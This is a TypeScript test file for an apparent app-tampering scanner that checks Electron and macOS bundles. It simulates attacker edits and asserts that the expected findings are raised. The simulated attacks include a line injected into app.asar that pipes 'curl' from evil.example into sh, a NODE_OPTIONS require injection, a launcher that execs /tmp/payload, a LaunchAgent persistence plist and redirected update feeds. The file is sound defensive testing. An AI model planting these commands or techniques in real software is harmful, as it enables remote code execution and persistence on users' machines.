// Issue 9 §2: every file that decides what the app does. An Electron-shaped app built from real vendor files
// (test/helpers/electron-app.ts) is scanned, changed the way an attacker who can write the app folder would, and
// scanned again: each change must raise its rule at the stated severity. The same changes inside a real version
// change (a new signed main executable) are explained and listed.
import test from 'ava';
import { appendFileSync, chmodSync, readFileSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import { classifyFile } from '../../daemon/inventory/file-class.ts';
import { asarOf, MAIN_V2, nodePtyLib, put, UNPACKED, UPDATE_YML, writeElectronApp } from '../helpers/electron-app.ts';
import { realCorpusPath } from '../helpers/real-corpus.ts';
import { above, appDir, harness } from '../helpers/scan.ts';
import { type ScanReport } from '../../daemon/pipeline/scan-app.ts';
import { tempDir } from '../helpers/temp.ts';

const ruled = (r: ScanReport): string[] => r.findings.filter((f) => above(f.severity)).map((f) => `${f.rule}:${f.severity}:${f.path ?? ''}`).sort();

/** Baseline of the app, then `attack` on the same folder, then a second scan. */
async function attacked(attack: (root: string) => void): Promise<ScanReport> {
  const h = harness();
  try {
    const root = appDir();
    writeElectronApp(root);
    const base = await h.scan('contoso', root);
    if (base.findings.some((f) => above(f.severity))) throw new Error(`baseline raised ${JSON.stringify(ruled(base))}`);
    // A baseline compares nothing: it keeps no summary of the files that steer the app (100,000 .js files would each hold one).
    if (base.changes.some((c) => c.after?.fileClass !== 'module')) throw new Error('the baseline kept summaries of non-modules');
    attack(root);
    return await h.scan('contoso', root);
  } finally {
    await h.close();
  }
}

test('the classifier: modules, app code, launch scripts, updater settings, launchd plists, data', (t) => {
  t.is(classifyFile('x/conpty.dll', 'pe'), 'module');
  t.is(classifyFile('resources/app.asar', 'unknown'), 'steering-code');
  t.is(classifyFile('resources/app.asar.unpacked/node_modules/x/build/helper', 'unknown'), 'steering-code');
  t.is(classifyFile('resources/app.asar.unpacked/node_modules/x/logo.png', 'unknown'), 'data');
  t.is(classifyFile('lib/preload.mjs', 'unknown'), 'steering-code');
  t.is(classifyFile('package.json', 'unknown'), 'steering-code', 'its `main` names the code Node and Electron load');
  for (const s of ['a.ps1', 'b.BAT', 'c.cmd', 'd.vbs', 'e.sh', 'f.command']) t.is(classifyFile(`bin/${s}`, 'unknown'), 'launch-script', s);
  t.is(classifyFile('bin/run', 'unknown', '/bin/sh'), 'launch-script');
  t.is(classifyFile('bin/run', 'unknown'), 'data');
  t.is(classifyFile('resources/app-update.yml', 'unknown'), 'updater-config');
  t.is(classifyFile('resources/update.json', 'unknown'), 'updater-config');
  t.is(classifyFile('Contoso.app/Contents/Info.plist', 'unknown'), 'updater-config');
  t.is(classifyFile('Contoso.app/Contents/Library/LaunchAgents/com.contoso.helper.plist', 'unknown'), 'launch-plist');
  t.is(classifyFile('Contoso.app/Contents/Library/LaunchDaemons/com.contoso.d.plist', 'unknown'), 'launch-plist');
  t.is(classifyFile('Contoso.app/Contents/Resources/en.lproj/Localizable.strings', 'unknown'), 'data');
  t.is(classifyFile('Contoso.app/Contents/MacOS/Contoso', 'macho'), 'module');
  t.is(classifyFile('share/applications/contoso.desktop', 'unknown'), 'launch-script');
  t.is(classifyFile('packages/RELEASES', 'unknown'), 'updater-config', "Squirrel's feed of package hashes");
  // Attack study, session 6: code under names that were data.
  for (const code of ['browser_v8_context_snapshot.bin', 'resources/app/index.html', 'help/page.htm', 'python/python312._pth', 'python/python312.zip', 'jre/lib/modules', 'jre/lib/server/classes.jsa', 'classes/com/contoso/Main.class', 'Contoso.exe.config', 'bin/Contoso.Core.dll.config', 'Contoso.deps.json', 'Contoso.runtimeconfig.json', 'bin/idea64.exe.vmoptions']) {
    t.is(classifyFile(code, 'unknown'), 'steering-code', code);
  }
  for (const data of ['resources/icudtl.dat', 'assets/archive.zip', 'lib/modules.txt', 'web.config.bak']) t.is(classifyFile(data, 'unknown'), 'data', data);
});

test('a data record keeps the interpreter a #! line names, and nothing for other files', async (t) => {
  const { dataRecord, interpreterOf } = await import('../../daemon/inventory/data-record.ts');
  t.is(interpreterOf(Buffer.from('#!/usr/bin/env bash -e\necho\n')), '/usr/bin/env bash');
  t.is(interpreterOf(Buffer.from('#!/bin/sh\r\n')), '/bin/sh');
  t.is(interpreterOf(Buffer.from('{"a":1}')), undefined);
  t.is(interpreterOf(Buffer.from('#!\x1b[2J\n')), '?[2J', 'control bytes never reach a terminal');
  const r = dataRecord({ path: '/app/bin/run', size: 12 }, Buffer.from('#!/bin/sh\nx\n'), {});
  t.is(r.file.interpreter, '/bin/sh');
  t.false('interpreter' in dataRecord({ path: '/app/a.txt', size: 3 }, Buffer.from('abc'), {}).file);
});

test('app.asar changed while the signed version did not → STEERING_CHANGED high', async (t) => {
  const lib = nodePtyLib();
  lib.set('index.js', Buffer.concat([lib.get('index.js') ?? Buffer.alloc(0), Buffer.from('\nrequire("child_process").exec("curl -s https://evil.example/x | sh");\n')]));
  const r = await attacked((root) => put(root, 'resources/app.asar', asarOf(lib)));
  t.deepEqual(ruled(r), ['STEERING_CHANGED:high:resources/app.asar']);
  t.regex(r.findings[0]?.message ?? '', /app code changed while the app's version stayed 6\.1\.7600\.16385/);
  t.like(r.findings[0]?.evidence, { class: 'steering-code', change: 'changed' });
});

test('a JavaScript file in app.asar.unpacked changed → STEERING_CHANGED high, with before/after hashes', async (t) => {
  const r = await attacked((root) => appendFileSync(join(root, UNPACKED, 'lib/windowsPtyAgent.js'), '\n;process.env.NODE_OPTIONS="--require /tmp/x.js";\n'));
  t.deepEqual(ruled(r), [`STEERING_CHANGED:high:${UNPACKED}/lib/windowsPtyAgent.js`]);
  const ev = r.findings[0]?.evidence as { before: { sha256: string }; after: { sha256: string } };
  t.not(ev.before.sha256, ev.after.sha256);
});

test('the update URL in app-update.yml changed, or the file removed → STEERING_CHANGED high', async (t) => {
  const moved = await attacked((root) => put(root, 'resources/app-update.yml', UPDATE_YML.replace('updates.contoso.example', 'updates.contoso-cdn.example')));
  t.deepEqual(ruled(moved), ['STEERING_CHANGED:high:resources/app-update.yml']);
  t.regex(moved.findings[0]?.message ?? '', /updater settings changed/);
  const gone = await attacked((root) => rmSync(join(root, 'resources/app-update.yml')));
  t.deepEqual(ruled(gone), ['STEERING_CHANGED:high:resources/app-update.yml']);
  t.regex(gone.findings[0]?.message ?? '', /updater settings was removed/);
});

test('new launch scripts of every kind, and an extensionless #! file → NEW_SCRIPT high each', async (t) => {
  const names = ['resources/update.ps1', 'resources/elevate.bat', 'tools/fix.cmd', 'tools/run.vbs', 'tools/post.sh', 'Contoso.command'];
  const r = await attacked((root) => {
    for (const n of names) put(root, n, 'echo pwned\n');
    put(root, 'resources/helper-launcher', '#!/bin/sh\nexec /tmp/payload "$@"\n');
    chmodSync(join(root, 'resources/helper-launcher'), 0o755);
  });
  t.deepEqual(ruled(r), [...names, 'resources/helper-launcher'].map((n) => `NEW_SCRIPT:high:${n}`).sort());
});

test('a LaunchAgent plist added inside a bundle → NEW_SCRIPT high (persistence, KeRanger-style)', async (t) => {
  const plist = '<?xml version="1.0" encoding="UTF-8"?>\n<plist version="1.0"><dict><key>Label</key><string>com.contoso.helper</string><key>ProgramArguments</key><array><string>/Users/Shared/.helper</string></array><key>RunAtLoad</key><true/></dict></plist>\n';
  const r = await attacked((root) => put(root, 'Contoso Helper.app/Contents/Library/LaunchAgents/com.contoso.helper.plist', plist));
  const f = r.findings.find((x) => x.rule === 'NEW_SCRIPT');
  t.is(f?.severity, 'high');
  t.is(f?.path, 'Contoso Helper.app/Contents/Library/LaunchAgents/com.contoso.helper.plist');
  t.like(f?.evidence, { class: 'launch-plist' });
});

test('a data file replaced by an executable is a module where none was, never "explained"', async (t) => {
  const r = await attacked((root) => put(root, 'resources/elevate', readFileSync(realCorpusPath('clipboard'))));
  t.deepEqual(ruled(r), ['NEW_UNSIGNED_MODULE:high:resources/elevate']);
  t.false(r.findings.some((f) => f.rule === 'UPDATE_EXPLAINED'));
});

test('an overlay appended to an unsigned module while the version stays → OUT_OF_BAND_CHANGE high', async (t) => {
  const r = await attacked((root) => appendFileSync(join(root, UNPACKED, 'prebuilds/win32-x64/pty.node'), Buffer.from('MZ payload appended as an overlay')));
  t.deepEqual(ruled(r), [`OUT_OF_BAND_CHANGE:high:${UNPACKED}/prebuilds/win32-x64/pty.node`]);
});

test('the same edits inside a real version change (new signed main executable) are explained and listed; a new script is one low NEW_SCRIPT', async (t) => {
  const lib = nodePtyLib();
  lib.set('index.js', Buffer.concat([lib.get('index.js') ?? Buffer.alloc(0), Buffer.from('\n// 10.0\n')]));
  const r = await attacked((root) => {
    put(root, 'contoso.exe', readFileSync(realCorpusPath(MAIN_V2.id)));
    put(root, 'package.json', JSON.stringify({ name: 'contoso-desktop', version: '10.0.26100', main: 'resources/app.asar' }));
    put(root, 'resources/app.asar', asarOf(lib));
    put(root, 'resources/app-update.yml', `${UPDATE_YML}channel: latest\n`);
    put(root, 'resources/install-helper.ps1', 'Write-Output "first-run"\n');
  });
  t.is(r.toVersion, MAIN_V2.version);
  t.regex(r.versionSource, /version resource of contoso\.exe \(signed\)/);
  // signtool 6.1 → 10.0 is another program: what the capability rules say of it is the executable's own business.
  t.deepEqual(ruled(r).filter((x) => !x.endsWith(':contoso.exe')), ['NEW_SCRIPT:low:']);
  t.regex(r.findings.find((f) => f.rule === 'NEW_SCRIPT')?.message ?? '', /1 new launch script\(s\) came with the update 6\.1\.7600\.16385 → 10\.0\.26100\.9169: resources\/install-helper\.ps1/);
  const explained = r.findings.find((f) => f.rule === 'UPDATE_EXPLAINED');
  t.deepEqual(explained?.evidence.steering, ['package.json', 'resources/app-update.yml', 'resources/app.asar']);
  t.regex(explained?.message ?? '', /3 file\(s\) that steer the app/);
  t.notRegex(explained?.message ?? '', /0 module\(s\) changed and 0 removed/, 'no count of nothing');
});

test('package.json pointed at a payload under a data name (an attacker who read the README) → STEERING_CHANGED high', async (t) => {
  const r = await attacked((root) => {
    put(root, 'package.json', JSON.stringify({ name: 'contoso-desktop', version: '6.1.7600', main: 'resources/notes.txt' }));
    put(root, 'resources/notes.txt', 'require("child_process").exec("/tmp/x")\n');
  });
  t.deepEqual(ruled(r), ['STEERING_CHANGED:high:package.json']);
});

test('app.asar swapped for a symbolic link out of the app root → STEERING_CHANGED high, with the link target', async (t) => {
  const { symlinkSync, writeFileSync } = await import('node:fs');
  const outside = join(tempDir('sealwatch-outside-'), 'evil.asar');
  writeFileSync(outside, asarOf(nodePtyLib()));
  const r = await attacked((root) => {
    rmSync(join(root, 'resources/app.asar'));
    symlinkSync(outside, join(root, 'resources/app.asar'));
  });
  t.deepEqual(ruled(r), ['STEERING_CHANGED:high:resources/app.asar']);
  t.regex(r.findings[0]?.message ?? '', new RegExp(`held app code, now holds a symbolic link out of the app root \\(${outside.replace(/[.*+?^${}()|[\]\\/]/g, '\\$&')}\\)`));
});

test('Sparkle: the feed URL in a sealed app\'s Info.plist edited → SIGNATURE_INVALID critical and STEERING_CHANGED high; a re-signed release with a new feed is listed, not raised', async (t) => {
  const { buildAppBundle } = await import('../helpers/apple-bundle.ts');
  const { loadIdentity } = await import('../helpers/apple-signer.ts');
  const { appleFixture } = await import('../helpers/fixtures.ts');
  const { cpSync, writeFileSync } = await import('node:fs');
  const vendor = await loadIdentity(appleFixture('pki/vendor.der'), appleFixture('pki/vendor.pk8'), [appleFixture('pki/devid-ca.der')]);
  const release = (dir: string, version: string, feed: string) =>
    buildAppBundle(dir, {
      name: 'Contoso',
      identifier: 'com.contoso.desktop',
      teamId: 'CONTOSO123',
      identity: vendor,
      executable: readFileSync(appleFixture('app-main-arm64')),
      shortVersion: version,
      info: { SUFeedURL: feed, SUPublicEDKey: 'pfIShU4dEXqPd5ObYNfDBiQWcXozk7estwzTnF9BamQ=' },
    });
  const h = harness([appleFixture('trust')]);
  try {
    const app = await release(appDir(), '2.0.0', 'https://updates.contoso.example/appcast.xml');
    t.deepEqual(ruled(await h.scan('mac', app)), []);
    const plist = join(app, 'Contents/Info.plist');
    writeFileSync(plist, readFileSync(plist, 'utf8').replace('updates.contoso.example', 'updates.contoso-cdn.example'));
    const r = await h.scan('mac', app);
    t.deepEqual(ruled(r), ['SIGNATURE_INVALID:critical:./', 'STEERING_CHANGED:high:Contents/Info.plist']);
    t.regex(r.findings.find((f) => f.rule === 'STEERING_CHANGED')?.message ?? '', /updater settings changed while the app's version stayed 2\.0\.0/);

    // The vendor's next release, sealed, with a new feed: an update, and the feed change is listed in it.
    const h2 = harness([appleFixture('trust')]);
    try {
      const root = join(appDir(), 'Contoso.app');
      cpSync(await release(appDir(), '2.0.0', 'https://updates.contoso.example/appcast.xml'), root, { recursive: true });
      await h2.scan('mac', root);
      rmSync(root, { recursive: true });
      cpSync(await release(appDir(), '2.1.0', 'https://updates2.contoso.example/appcast.xml'), root, { recursive: true });
      const next = await h2.scan('mac', root);
      t.is(next.versionSource, 'Info.plist (sealed)');
      t.deepEqual(ruled(next), []);
      t.true(((next.findings.find((f) => f.rule === 'UPDATE_EXPLAINED')?.evidence.steering as string[]) ?? []).includes('Contents/Info.plist'));
    } finally {
      await h2.close();
    }
  } finally {
    await h.close();
  }
});

test('update.json (a custom updater\'s feed) edited out of band → STEERING_CHANGED high', async (t) => {
  const h = harness();
  try {
    const root = appDir();
    writeElectronApp(root);
    put(root, 'resources/update.json', JSON.stringify({ url: 'https://updates.contoso.example/win/latest', publicKey: 'MCowBQYDK2VwAyEA3w==' }));
    await h.scan('contoso', root);
    put(root, 'resources/update.json', JSON.stringify({ url: 'https://updates.contoso.example/win/latest', publicKey: 'MCowBQYDK2VwAyEAAA==' }));
    const r = await h.scan('contoso', root);
    t.deepEqual(ruled(r), ['STEERING_CHANGED:high:resources/update.json']);
  } finally {
    await h.close();
  }
});
